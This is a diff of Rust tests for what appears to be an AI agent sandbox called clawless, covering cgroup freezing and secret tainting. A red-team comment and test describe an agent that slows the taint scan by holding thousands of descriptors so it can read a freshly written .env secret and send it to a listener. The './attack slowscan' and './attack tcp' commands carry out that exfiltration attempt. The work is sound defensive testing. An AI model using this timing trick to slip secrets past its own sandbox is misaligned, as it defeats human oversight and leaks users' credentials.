@@ -3153,6 +3153,238 @@ fn isolated_files_a_descriptor_moved_by_fork_during_the_scan_taints_when_it_land
     early_hold_taints("forkhop", "127.77.16.80");
 }
 
+/// A `std::time::Duration` as `Debug` prints it (`1.5s`, `250.3ms`, `80µs`).
+fn parse_debug_duration(s: &str) -> Option<Duration> {
+    let (num, unit) = [("ms", 1e-3), ("µs", 1e-6), ("ns", 1e-9), ("s", 1.0)]
+        .into_iter()
+        .find_map(|(u, k)| s.strip_suffix(u).map(|n| (n, k)))?;
+    num.parse::<f64>().ok().map(|n| Duration::from_secs_f64(n * unit))
+}
+
+/// Red team round 5 (slow-scan): the late-mark scan looks at every descriptor of
+/// every sandbox process before it decides, so the agent chooses how long it
+/// takes (fillers holding ~20,000 descriptors each); a descriptor held from
+/// before the mark reads the secret written while the scan runs, and sends it
+/// before the transition fires. The sandbox is frozen for the scan (its own
+/// cgroup, `crate::cgroup`): what it reads after the thaw is read tainted.
+/// With `CLAWLESS_TEST_NO_CGROUP=1` (no cgroup, the scan unfrozen) this leaks.
+#[test]
+fn isolated_files_a_descriptor_read_while_the_late_mark_scan_runs_is_read_tainted() {
+    if !kernel_opens() {
+        eprintln!(
+            "not run: late marks are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root); mediated mode decides opens by name and has no marks (docs/threat-model.md)"
+        );
+        return;
+    }
+    let ip = "127.77.16.81";
+    let f = Fixture::new("iso-slow-scan").with_attack();
+    std::fs::write(f.ws.join("draft"), "draft\n").unwrap();
+    let server = Tcp::new(ip, 443);
+    let script = format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack slowscan draft 10 {ip} 443");
+    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
+    cmd.env("CLAWLESS_TRACE_DISCOVERY", "1")
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = cmd.spawn().unwrap();
+    let pid = child.id();
+    let start = std::time::Instant::now();
+    while !f.ws.join("held").exists() && start.elapsed() < Duration::from_secs(60) {
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    let held = f.ws.join("held").exists();
+    let mut late = None;
+    if held {
+        // The user's tool: `draft` becomes `.env`; the secret goes in while the
+        // late-mark scan (over the fillers' descriptors) runs.
+        std::fs::rename(f.ws.join("draft"), f.ws.join(".env")).unwrap();
+        let t = std::time::Instant::now();
+        while !marked_by(pid, &f.ws.join(".env")) && t.elapsed() < Duration::from_secs(30) {
+            std::thread::sleep(Duration::from_millis(1));
+        }
+        let marked = std::time::Instant::now();
+        std::thread::sleep(Duration::from_millis(30));
+        use std::os::unix::fs::FileExt;
+        let w = std::fs::OpenOptions::new()
+            .write(true)
+            .open(f.ws.join(".env"))
+            .unwrap();
+        w.write_all_at(b"SECRET-ENV-slow-scan-7070\n", 0).unwrap();
+        drop(w);
+        late = Some(marked.elapsed());
+    }
+    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let out = stdout(&o);
+    let err = stderr(&o);
+    let got = server.received();
+    assert!(held, "the agent never held the file\n{}", show(&o));
+    assert!(
+        got.starts_with("PRE-TAINT-CHANNEL-OK"),
+        "the channel did not work: {got:?}\n{}",
+        show(&o)
+    );
+    assert!(
+        out.contains("slowscan fillers: 10 with ")
+            && out.contains("slowscan read: SECRET-ENV-slow-scan-7070"),
+        "the attack did not run (it reads the secret through its descriptor)\n{}",
+        show(&o)
+    );
+    // The secret was written while the scan ran (it outlasted the write).
+    let scan = err
+        .lines()
+        .find(|l| l.contains("late mark of ") && l.contains(".env: scan "))
+        .and_then(|l| l.split(": scan ").nth(1))
+        .and_then(|r| r.split(',').next())
+        .and_then(parse_debug_duration);
+    let late = late.unwrap();
+    assert!(
+        scan.is_some_and(|d| d > late),
+        "the scan ({scan:?}) did not outlast the write of the secret ({late:?} after the mark)\n{}",
+        show(&o)
+    );
+    eprintln!("late-mark scan {scan:?}; the secret written {late:?} after the mark");
+    assert!(
+        !got.contains("LEAK:"),
+        "the secret left the sandbox: {got:?}\n{}",
+        show(&o)
+    );
+    assert!(
+        out.contains("socket: errno=") || out.contains("slowscan connect: errno="),
+        "not tainted\n{}",
+        show(&o)
+    );
+    assert!(
+        err.contains("sandbox frozen"),
+        "the scan did not freeze the sandbox\n{}",
+        show(&o)
+    );
+    kernel_decided(&o);
+}
+
+/// The cgroup2 mount point and this process's own cgroup (`0::` line), if any.
+fn cgroup2() -> Option<(std::path::PathBuf, String)> {
+    let mi = std::fs::read_to_string("/proc/self/mountinfo").ok()?;
+    let point = mi.lines().find_map(|l| {
+        let (pre, post) = l.split_once(" - ")?;
+        (post.starts_with("cgroup2 ") && pre.split(' ').nth(3) == Some("/"))
+            .then(|| pre.split(' ').nth(4).map(std::path::PathBuf::from))
+            .flatten()
+    })?;
+    let own = std::fs::read_to_string("/proc/self/cgroup").ok()?;
+    let own = own.lines().find_map(|l| l.strip_prefix("0::"))?.to_string();
+    Some((point, own))
+}
+
+/// The sandbox's cgroup (`crate::cgroup`, isolated mode, root): every process of
+/// the sandbox is in `clawless.<pid>` below our own cgroup while it runs (the
+/// agent's `/proc/self/cgroup`, and the directory's `cgroup.procs` from outside),
+/// and the directory is gone afterwards.
+#[test]
+fn isolated_the_sandbox_runs_in_a_cgroup_of_its_own_removed_at_the_end() {
+    // SAFETY: geteuid takes nothing and cannot fail.
+    if mediated() || unsafe { libc::geteuid() } != 0 {
+        eprintln!("not run: the sandbox's cgroup is isolated mode's, made as root");
+        return;
+    }
+    let Some((mount, own)) = cgroup2() else {
+        eprintln!("not run: no cgroup2 hierarchy here");
+        return;
+    };
+    let f = Fixture::new("iso-cgroup");
+    let script = "cat /proc/self/cgroup; (sleep 30 & wait) & touch started; i=0; while [ ! -e go ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; echo done";
+    let mut cmd = f.command(&[], &["/bin/sh", "-c", script]);
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = cmd.spawn().unwrap();
+    let pid = child.id();
+    let dir = mount
+        .join(own.trim_start_matches('/'))
+        .join(format!("clawless.{pid}"));
+    let t = std::time::Instant::now();
+    while !f.ws.join("started").exists() && t.elapsed() < Duration::from_secs(60) {
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    let procs = std::fs::read_to_string(dir.join("cgroup.procs")).unwrap_or_default();
+    let procs: Vec<i32> = procs.lines().filter_map(|l| l.parse().ok()).collect();
+    // Every process below clawless (the listener and helpers are clawless's own,
+    // outside) that is in the sandbox's pid namespace is in the cgroup.
+    let ns = |p: i32| std::fs::read_link(format!("/proc/{p}/ns/pid")).ok();
+    let sandbox_ns = procs.first().and_then(|&p| ns(p));
+    let outside: Vec<i32> = std::fs::read_dir("/proc")
+        .unwrap()
+        .flatten()
+        .filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok())
+        .filter(|&p| !procs.contains(&p))
+        .filter(|&p| {
+            // The sandbox's processes: the init (a child of clawless, pid 1 of
+            // the namespace its children are in) and everything in its namespace.
+            let child_ns = std::fs::read_to_string(format!("/proc/{p}/status"))
+                .ok()
+                .and_then(|s| s.lines().find(|l| l.starts_with("NSpid:")).map(str::to_string))
+                .is_some_and(|l| l.split_whitespace().count() > 2);
+            child_ns && sandbox_ns.is_some() && ns(p) == sandbox_ns
+        })
+        .collect();
+    std::fs::write(f.ws.join("go"), "").unwrap();
+    let o = wait_with_deadline(child, Duration::from_secs(120));
+    assert!(stdout(&o).contains("done"), "{}", show(&o));
+    let line = stdout(&o)
+        .lines()
+        .find(|l| l.starts_with("0::"))
+        .map(str::to_string)
+        .unwrap_or_default();
+    assert!(
+        line.ends_with(&format!("/clawless.{pid}")),
+        "the agent is not in the sandbox's cgroup: {line:?}\n{}",
+        show(&o)
+    );
+    assert!(
+        procs.len() >= 3,
+        "the cgroup holds {procs:?} (the init, the agent's shell, its children)\n{}",
+        show(&o)
+    );
+    assert!(
+        outside.is_empty(),
+        "sandbox processes outside the cgroup: {outside:?}"
+    );
+    assert!(
+        stderr(&o).contains(", a cgroup"),
+        "the mode line does not say so\n{}",
+        show(&o)
+    );
+    assert!(!dir.exists(), "{} is left after the run", dir.display());
+}
+
+/// Without a usable cgroup (the test hook `CLAWLESS_TEST_NO_CGROUP=1` stands for
+/// a machine without a writable cgroup2, `crate::cgroup`) the sandbox runs as
+/// before, and where late marks would freeze it the mode line says they cannot.
+#[test]
+fn isolated_files_without_a_cgroup_the_sandbox_runs_and_says_late_marks_cannot_freeze_it() {
+    if !kernel_opens() {
+        eprintln!("not run: the note is isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root)");
+        return;
+    }
+    let f = Fixture::new("iso-no-cgroup");
+    let mut cmd = f.command(&[], &["/bin/sh", "-c", "cat /proc/self/cgroup; echo ran"]);
+    cmd.env("CLAWLESS_TEST_NO_CGROUP", "1");
+    let o = run_with_deadline(cmd, Duration::from_secs(120));
+    assert_eq!(code(&o), 0, "{}", show(&o));
+    assert!(stdout(&o).contains("ran"), "{}", show(&o));
+    assert!(
+        !stdout(&o).contains("/clawless."),
+        "a cgroup was made\n{}",
+        show(&o)
+    );
+    assert!(
+        stderr(&o).contains(
+            "; late-mark scans cannot freeze the sandbox (no cgroup of its own: CLAWLESS_TEST_NO_CGROUP is set (a test hook))"
+        ),
+        "{}",
+        show(&o)
+    );
+    assert!(!stderr(&o).contains(", a cgroup"), "{}", show(&o));
+    kernel_decided(&o);
+}
+
 #[test]
 fn isolated_files_a_descriptor_in_flight_before_the_mark_taints_when_it_lands() {
     early_hold_taints("inflight", "127.77.16.62");
